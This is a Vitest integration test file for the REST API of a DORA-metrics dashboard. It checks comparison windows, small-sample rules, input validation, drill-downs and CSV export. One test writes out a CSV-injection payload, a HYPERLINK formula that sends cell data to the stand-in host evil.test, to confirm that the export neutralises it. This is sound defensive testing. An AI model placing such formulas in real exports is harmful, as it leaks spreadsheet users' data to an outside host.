import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDemoOrganisation } from '../../collectors/demo/load-demo';
import { closeProcessDatabase } from '../../db/database';
import { loadConfig } from '../../lib/config';
import { deriveAll } from '../../scorecards/derive-all';
import { createTestDatabase, type TestDatabase } from '../helpers/test-db';

/**
 * The /api/v1 route handlers themselves, called with real Requests against the demo
 * organisation in a real database (as the Next.js server calls them).
 */
const NOW = '2026-06-01T12:00:00Z';
let t: TestDatabase;
const get = async (url: string) => {
  const u = new URL(url, 'http://paved.test');
  const route = u.pathname.replace('/api/v1', '');
  const modules: Record<string, () => Promise<{ GET: (r: Request, c?: unknown) => Promise<Response> | Response }>> = {
    '/dora': () => import('../../app/api/v1/dora/route'),
    '/dora/series': () => import('../../app/api/v1/dora/series/route'),
    '/deployments': () => import('../../app/api/v1/deployments/route'),
    '/changes': () => import('../../app/api/v1/changes/route'),
    '/incidents': () => import('../../app/api/v1/incidents/route'),
    '/data-quality': () => import('../../app/api/v1/data-quality/route'),
    '/services': () => import('../../app/api/v1/services/route'),
    '/teams': () => import('../../app/api/v1/teams/route'),
    '/openapi.json': () => import('../../app/api/v1/openapi.json/route'),
  };
  const slugRoute = route.match(/^\/(services|teams)\/([^/]+)$/);
  const response = slugRoute
    ? await (
        await import(`../../app/api/v1/${slugRoute[1]}/[slug]/route`)
      ).GET(new Request(u), { params: Promise.resolve({ slug: slugRoute[2] }) })
    : await (await modules[route]!()).GET(new Request(u));
  return {
    status: response.status,
    type: response.headers.get('content-type') ?? '',
    body: response.headers.get('content-type')?.includes('json') ? await response.json() : await response.text(),
    headers: response.headers,
  };
};

beforeAll(async () => {
  t = await createTestDatabase();
  const dir = mkdtempSync(path.join(os.tmpdir(), 'paved-api-'));
  writeFileSync(path.join(dir, 'paved.yaml'), 'schedule:\n  enabled: false\n');
  process.env.PAVED_CONFIG = path.join(dir, 'paved.yaml');
  process.env.DATABASE_URL = t.url;
  process.env.PAVED_NOW = NOW;
  await loadDemoOrganisation(t.db, { at: new Date(NOW) });
  await deriveAll(t.db, loadConfig());
}, 120_000);
afterAll(async () => {
  await closeProcessDatabase();
  await t.drop();
});

describe('comparisons that know their coverage, and the small-sample rule', () => {
  // The demo's history starts at midnight 183 days before NOW: 2025-11-30.
  const HISTORY_FROM = '2025-11-30T00:00:00.000Z';
  const LONG = 'from=2025-12-03&to=2026-05-31'; // 180 days: the previous 180 start on 2025-06-06
  const SHORT = 'from=2026-05-02&to=2026-05-31'; // 30 days, the previous 30 well inside the history

  it.each([
    ['the organisation', ''],
    ['a team', '&team=payments'],
    ['a service', '&service=checkout-web'],
  ])('%s: a previous window before the collected history gets no change at all', async (_, scope) => {
    const body = (await get(`/api/v1/dora?${LONG}${scope}`)).body;
    expect(body.coverage).toEqual({ historyFrom: HISTORY_FROM, windowCovered: true, previousWindowCovered: false });
    for (const metric of Object.values(body.comparison) as { status: string; change: number | null }[])
      expect(metric).toMatchObject({ status: 'partial_coverage', change: null });
    // The previous figures themselves are still given, as collected.
    expect(body.comparison.deploymentFrequency.samples).toEqual({
      current: body.deploymentFrequency.deployments,
      previous: body.previous.deploymentFrequency.deployments,
    });
  });

  it.each([
    ['the organisation', ''],
    ['a team', '&team=payments'],
  ])('%s: a covered previous window with enough events compares as ok', async (_, scope) => {
    const body = (await get(`/api/v1/dora?${SHORT}${scope}`)).body;
    expect(body.coverage.previousWindowCovered).toBe(true);
    const df = body.comparison.deploymentFrequency;
    expect(df.status).toBe('ok');
    const [now, before] = [body.deploymentFrequency.perWeek, body.previous.deploymentFrequency.perWeek];
    expect(df.change).toBeCloseTo(((now - before) / before) * 100, 10);
    const cfr = body.comparison.changeFailureRate;
    expect(cfr.unit).toBe('points');
    expect(cfr.change).toBeCloseTo((body.changeFailureRate.rate - body.previous.changeFailureRate.rate) * 100, 10);
  });

  it('a service: fewer events than the rule on either side is too_few, and its level is not enough data', async () => {
    const body = (await get(`/api/v1/dora?${SHORT}&service=billing-monolith`)).body;
    const cfr = body.changeFailureRate;
    expect(cfr.deployments).toBeGreaterThan(0);
    expect(cfr.deployments).toBeLessThan(5);
    expect(cfr.rate).toBe(cfr.failedDeployments / cfr.deployments); // the value still stands
    expect(cfr).toMatchObject({ level: null, levelStatus: 'not_enough_data' });
    expect(body.deploymentFrequency).toMatchObject({ level: null, levelStatus: 'not_enough_data' });
    expect(body.comparison.changeFailureRate.status).toBe('too_few');
    // A team pooling enough deployments keeps its levels.
    const team = (await get(`/api/v1/dora?${SHORT}&team=payments`)).body;
    expect(team.changeFailureRate.levelStatus).toBe('ok');
    expect(team.changeFailureRate.level).not.toBeNull();
  });
});

describe('a service with no incident source', () => {
  it('counts rollbacks and reverts only, with no level, and no recovery or restore figures', async () => {
    const body = (await get('/api/v1/dora?service=audit-log')).body;
    expect(body.incidentSources).toEqual({ services: 1, withoutIncidentSource: 1 });
    expect(body.changeFailureRate).toMatchObject({ level: null, levelStatus: 'deploy_signals_only' });
    expect(body.failedDeploymentRecoveryTime).toMatchObject({
      medianSeconds: null,
      level: null,
      levelStatus: 'deploy_signals_only',
    });
    expect(body.timeToRestore).toEqual({ incidents: 0, resolved: 0, medianSeconds: null });
    // The failures it does count are rollbacks and reverts, and drill down to the same rows.
    const failed = (await get('/api/v1/deployments?service=audit-log&failed=true&limit=500')).body.items as {
      failureReasons: string[];
    }[];
    expect(failed).toHaveLength(body.changeFailureRate.failedDeployments);
    for (const d of failed) expect(d.failureReasons).not.toContain('incident');
  });

  it('is counted in its team and in the organisation, whose levels stand', async () => {
    const service = (await get('/api/v1/services/audit-log')).body;
    const team = (await get(`/api/v1/dora?team=${service.team.slug}`)).body;
    expect(team.incidentSources.withoutIncidentSource).toBe(1);
    expect(team.incidentSources.services).toBeGreaterThan(1);
    expect(team.changeFailureRate.levelStatus).not.toBe('deploy_signals_only');
    const org = (await get('/api/v1/dora')).body;
    expect(org.incidentSources).toEqual({ services: 23, withoutIncidentSource: 2 });
    expect(org.changeFailureRate.levelStatus).toBe('ok');
  });
});

describe('quarter-on-quarter and year-on-year comparisons', () => {
  const figuresOf = (body: Record<string, unknown>) => {
    const {
      deploymentFrequency,
      leadTimeForChanges,
      changeFailureRate,
      failedDeploymentRecoveryTime,
      timeToRestore,
      reworkRate,
    } = body as Record<string, unknown>;
    return {
      deploymentFrequency,
      leadTimeForChanges,
      changeFailureRate,
      failedDeploymentRecoveryTime,
      timeToRestore,
      reworkRate,
    };
  };

  it('compares this quarter so far with the same days of the last one, figures equal to that window asked for itself', async () => {
    const body = (await get('/api/v1/dora?from=2026-04-01&to=2026-05-31&team=payments&compare=previous-quarter')).body;
    expect(body.window).toEqual({ from: '2026-04-01T00:00:00.000Z', to: '2026-06-01T00:00:00.000Z' });
    expect(body.previous.window).toEqual({ from: '2026-01-01T00:00:00.000Z', to: '2026-03-01T00:00:00.000Z' });
    expect(body.previous.compare).toBe('previous-quarter');
    const alone = (await get('/api/v1/dora?from=2026-01-01&to=2026-02-28&team=payments')).body;
    expect(figuresOf(body.previous)).toEqual(figuresOf(alone));
    expect(body.coverage.previousWindowCovered).toBe(true);
    expect(body.comparison.deploymentFrequency).toMatchObject({
      status: 'ok',
      samples: { current: body.deploymentFrequency.deployments, previous: alone.deploymentFrequency.deployments },
    });
    // The team page's API compares the same way.
    const team = (await get('/api/v1/teams/payments?from=2026-04-01&to=2026-05-31&compare=previous-quarter')).body;
    expect(team.dora.comparison).toEqual(body.comparison);
  });

  it('a year back falls before the collected history: partial coverage, no change', async () => {
    const body = (await get('/api/v1/dora?from=2026-05-02&to=2026-05-31&compare=previous-year')).body;
    expect(body.previous.window).toEqual({ from: '2025-05-02T00:00:00.000Z', to: '2025-06-01T00:00:00.000Z' });
    expect(body.coverage.previousWindowCovered).toBe(false);
    for (const metric of Object.values(body.comparison) as { status: string; change: number | null }[])
      expect(metric).toMatchObject({ status: 'partial_coverage', change: null });
  });

  it('defaults to the previous period, and refuses an unknown or overlapping comparison with a 400 naming compare', async () => {
    const byDefault = (await get('/api/v1/dora?from=2026-05-02&to=2026-05-31')).body;
    expect(byDefault.previous).toMatchObject({
      compare: 'previous-period',
      window: { from: '2026-04-02T00:00:00.000Z', to: '2026-05-02T00:00:00.000Z' },
    });
    for (const [query, message] of [
      [
        'compare=last-quarter',
        'compare: expected one of previous-period, previous-month, previous-quarter, previous-year',
      ],
      [
        'from=2025-12-03&to=2026-05-31&compare=previous-quarter',
        'compare: previous-quarter compares the same days a quarter earlier',
      ],
      ['compare=previous-month', 'compare: previous-month compares the same days a month earlier'],
    ]) {
      const { status, body } = await get(`/api/v1/dora?${query}`);
      expect(status, query).toBe(400);
      expect(JSON.stringify(body), query).toContain(message);
    }
    expect((await get('/api/v1/services/checkout-web?compare=previous-year')).status).toBe(200);
    expect((await get('/api/v1/services/checkout-web?compare=nope')).status).toBe(400);
  });
});

describe('GET /api/v1/dora', () => {
  it('answers the last 90 whole days of the organisation by default, with the previous window', async () => {
    const { status, body } = await get('/api/v1/dora');
    expect(status).toBe(200);
    expect(body.scope).toEqual({ type: 'organisation', slug: null });
    expect(body.window).toEqual({ from: '2026-03-03T00:00:00.000Z', to: '2026-06-01T00:00:00.000Z' });
    expect(body.previous.window).toEqual({ from: '2025-12-03T00:00:00.000Z', to: '2026-03-03T00:00:00.000Z' });
    expect(body.benchmark).toBe('dora-2023');
    expect(body.deploymentFrequency.deployments).toBeGreaterThan(500);
    expect(body.changeFailureRate.rate).toBeCloseTo(
      body.changeFailureRate.failedDeployments / body.changeFailureRate.deployments,
      10,
    );
  });

  it('tells an elite team from a struggling one', async () => {
    const elite = (await get('/api/v1/dora?team=payments')).body;
    const struggling = (await get('/api/v1/dora?team=legacy-billing')).body;
    expect(elite.deploymentFrequency.level).toBe('elite');
    expect(elite.leadTimeForChanges.level).toBe('elite');
    expect(['elite', 'high']).toContain(elite.changeFailureRate.level);
    expect(struggling.deploymentFrequency.level).not.toBe('elite');
    expect(struggling.changeFailureRate.level).toBe('low');
    expect(struggling.leadTimeForChanges.medianSeconds).toBeGreaterThan(elite.leadTimeForChanges.medianSeconds * 5);
  });

  it.each([
    ['/api/v1/dora?from=yesterday', 'from: expected a date (2026-01-31) or an instant'],
    ['/api/v1/dora?from=2026-02-30', 'from: expected a date'],
    ['/api/v1/dora?to=2026-13-01', 'to: expected a date'],
    ['/api/v1/dora?from=2026-01-31T25:00:00Z', 'from: expected a date'],
    ['/api/v1/dora?from=0000-01-01', 'from: years before 1970 or after 2999 are not supported'],
    ['/api/v1/dora?from=0001-01-01T00:00:00Z&to=0001-02-01T00:00:00Z', 'from: years before 1970'],
    ['/api/v1/deployments?from=2026-02-30', 'from: expected a date'],
    ['/api/v1/dora?from=2026-05-01&to=2026-04-01', 'from: from must be before to'],
    ['/api/v1/dora?from=2026-05-01T00:00:00Z&to=2026-05-01T00:00:00Z', 'from: from must be before to'],
    ['/api/v1/dora?from=2020-01-01&to=2026-01-01', 'to: the window may span at most 731 days'],
    ['/api/v1/dora?service=ledger&team=payments', 'service: give service or team, not both'],
    ['/api/v1/dora?team=Not%20A%20Slug', 'team: expected a slug'],
    ['/api/v1/deployments?limit=0', 'limit'],
    ['/api/v1/deployments?failed=maybe', 'failed'],
    ['/api/v1/deployments?cursor=garbage', 'cursor: not a cursor returned by this endpoint'],
    // Valid base64 JSON of the wrong shape: ["x", "y"], and a position on a day that does not exist.
    ['/api/v1/deployments?cursor=WyJ4IiwieSJd', 'cursor: not a cursor returned by this endpoint'],
    ['/api/v1/incidents?cursor=WyIyMDI2LTAyLTMwVDAwOjAwOjAwLjAwMFoiLCJpMSJd', 'cursor: not a cursor'],
    ['/api/v1/dora?to=9999-12-31T23:59:59Z', 'to: years before 1970 or after 2999 are not supported'],
    ['/api/v1/dora/series?interval=day', 'interval'],
  ])('%s is a 400 with a message', async (url, message) => {
    const { status, body } = await get(url);
    expect(status).toBe(400);
    expect(body.error.code).toBe('bad_request');
    expect(body.error.message).toContain(message);
  });

  it('includes a date-only `to` day, and ends a day that has not finished at now', async () => {
    const window = async (q: string) => (await get(`/api/v1/dora?${q}`)).body.window;
    expect(await window('from=2026-04-01&to=2026-04-30')).toEqual({
      from: '2026-04-01T00:00:00.000Z',
      to: '2026-05-01T00:00:00.000Z',
    });
    // Instants are exact: the same window, written as [from, to).
    expect(await window('from=2026-04-01T00:00:00Z&to=2026-05-01T00:00:00Z')).toEqual(
      await window('from=2026-04-01&to=2026-04-30'),
    );
    expect(await window('from=2026-05-01&to=2026-06-01')).toEqual({
      from: '2026-05-01T00:00:00.000Z',
      to: '2026-06-01T12:00:00.000Z',
    });
    expect(await window('from=2026-05-31T22:00:00-02:00')).toEqual({
      from: '2026-06-01T00:00:00.000Z',
      to: '2026-06-01T12:00:00.000Z',
    });
  });

  it('is a 404 for an unknown service or team', async () => {
    expect((await get('/api/v1/dora?service=nope')).status).toBe(404);
    expect((await get('/api/v1/deployments?team=nope')).status).toBe(404);
    expect((await get('/api/v1/services/nope')).status).toBe(404);
  });
});

describe('drill-downs', () => {
  it('lists exactly the failed deployments the change failure rate counts, across pages', async () => {
    const window = 'from=2026-03-01&to=2026-06-01&team=checkout';
    const { body: dora } = await get(`/api/v1/dora?${window}`);
    const failed: { id: string; failed: boolean; failureReasons: string[] }[] = [];
    let cursor: string | null = null;
    do {
      const { body } = await get(
        `/api/v1/deployments?${window}&failed=true&limit=7${cursor ? `&cursor=${cursor}` : ''}`,
      );
      failed.push(...body.items);
      cursor = body.nextCursor;
    } while (cursor);
    expect(failed).toHaveLength(dora.changeFailureRate.failedDeployments);
    expect(new Set(failed.map((d) => d.id)).size).toBe(failed.length);
    expect(failed.every((d) => d.failed && d.failureReasons.length > 0)).toBe(true);
  });

  it('lists exactly the rework deployments the rework rate counts', async () => {
    const window = 'from=2026-03-01&to=2026-06-01&team=legacy-billing';
    const { body: dora } = await get(`/api/v1/dora?${window}`);
    const { body } = await get(`/api/v1/deployments?${window}&rework=true&limit=1000`);
    expect(dora.reworkRate.reworkDeployments).toBeGreaterThan(0);
    expect(body.items).toHaveLength(dora.reworkRate.reworkDeployments);
    expect(
      body.items.every((d: { rework: boolean; reworkReasons: string[] }) => d.rework && d.reworkReasons.length > 0),
    ).toBe(true);
    expect((await get('/api/v1/deployments?rework=perhaps')).status).toBe(400);
  });

  it('lists the changes behind the lead time, and incidents with their attributed deployment', async () => {
    const window = 'from=2026-05-01&to=2026-06-01&service=ledger';
    const { body: dora } = await get(`/api/v1/dora?${window}`);
    const { body: changes } = await get(`/api/v1/changes?${window}&limit=1000`);
    expect(changes.items.filter((c: { counted: boolean }) => c.counted)).toHaveLength(dora.leadTimeForChanges.changes);
    const { body: incidents } = await get(`/api/v1/incidents?from=2025-12-01&to=2026-06-01&team=payments&limit=1000`);
    const attributed = incidents.items.filter((i: { attributedDeployment: unknown }) => i.attributedDeployment);
    expect(attributed.length).toBeGreaterThan(0);
    expect(attributed[0].attributedDeployment.reason).toMatch(/after this deployment/);
  });

  it('answers CSV with format=csv: every row, not one page', async () => {
    const { body: page } = await get('/api/v1/deployments?team=search&limit=1000');
    const { status, type, body } = await get('/api/v1/deployments?team=search&format=csv&limit=5');
    expect(status).toBe(200);
    expect(type).toContain('text/csv');
    const lines = (body as string).trim().split('\r\n');
    expect(lines[0]).toMatch(/^id,repository,services,environment/);
    expect(lines).toHaveLength(page.items.length + 1);
  });

  it('streams an export of more than 1,000 rows whole, in the order of the pages', async () => {
    const window = 'from=2025-06-01&to=2026-06-01';
    const ids: string[] = [];
    let cursor: string | null = null;
    do {
      const { body } = await get(`/api/v1/deployments?${window}&limit=1000${cursor ? `&cursor=${cursor}` : ''}`);
      ids.push(...body.items.map((d: { id: string }) => d.id));
      cursor = body.nextCursor;
    } while (cursor);
    expect(ids.length).toBeGreaterThan(2000);
    const csv = (await get(`/api/v1/deployments?${window}&format=csv`)).body as string;
    const rows = csv.trim().split('\r\n').slice(1);
    expect(rows.map((line) => line.split(',')[0])).toEqual(ids);
  });

  it('neutralises cells a spreadsheet would run as formulas (CSV injection)', async () => {
    const { body } = await get('/api/v1/incidents?from=2025-12-01&to=2026-06-01&limit=1');
    const target = body.items[0];
    const formula = '=HYPERLINK("https://evil.test/?"&A1,"Open")';
    await t.db.updateTable('incidents').set({ title: formula }).where('title', '=', target.title).execute();
    const csv = (await get('/api/v1/incidents?from=2025-12-01&to=2026-06-01&format=csv')).body as string;
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.test/?""&A1,""Open"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe('catalog, series, data quality and OpenAPI', () => {
  it('lists services and teams', async () => {
    const services = (await get('/api/v1/services')).body.items;
    expect(services).toHaveLength(23);
    expect(services.find((s: { slug: string }) => s.slug === 'ledger')).toMatchObject({
      team: 'payments',
      repositories: ['acme/ledger'],
    });
    expect(services).toHaveLength(23);
    const csv = (await get('/api/v1/teams?format=csv')).body as string;
    expect(csv.split('\r\n')[0]).toBe('slug,name,source,services');
    const team = (await get('/api/v1/teams/payments')).body;
    expect(team.services).toHaveLength(5);
    expect(team.services[0].team).toEqual({ slug: 'payments', name: 'Payments' });
    expect(team.dora.scope).toEqual({ type: 'team', slug: 'payments' });
  });

  it('gives weekly points that add up to the window', async () => {
    // A date-only `to` is included: eight whole weeks, Monday 6 April to Sunday 31 May.
    const { body } = await get('/api/v1/dora/series?interval=week&from=2026-04-06&to=2026-05-31&team=platform');
    expect(body.points).toHaveLength(8);
    const { body: whole } = await get('/api/v1/dora?from=2026-04-06&to=2026-05-31&team=platform');
    const sum = body.points.reduce(
      (n: number, p: { deploymentFrequency: { deployments: number } }) => n + p.deploymentFrequency.deployments,
      0,
    );
    expect(sum).toBe(whole.deploymentFrequency.deployments);
  });

  it('reports data quality', async () => {
    const { body } = await get('/api/v1/data-quality');
    expect(body.baselineDeployments.length).toBeGreaterThanOrEqual(23);
    // The office network, and two services whose on-call is not linked in the catalog yet.
    expect(body.unclaimedPagerdutyServices).toContainEqual({
      pagerdutyService: 'PUNCLMD',
      name: 'Office network',
      incidents: 6,
    });
    expect(body.unclaimedPagerdutyServices.map((u: { name: string }) => u.name).sort()).toEqual([
      'Audit log',
      'Dunning jobs',
      'Office network',
    ]);
    expect(body.failedDeploymentAttempts).toBeGreaterThan(0);
  });

  it('describes itself in OpenAPI', async () => {
    const { body } = await get('/api/v1/openapi.json');
    expect(body.openapi).toBe('3.1.0');
    expect(Object.keys(body.paths)).toEqual(
      expect.arrayContaining([
        '/api/v1/dora',
        '/api/v1/deployments',
        '/api/v1/data-quality',
        '/api/v1/sync',
        '/api/v1/sync/runs/{id}',
      ]),
    );
  });
});
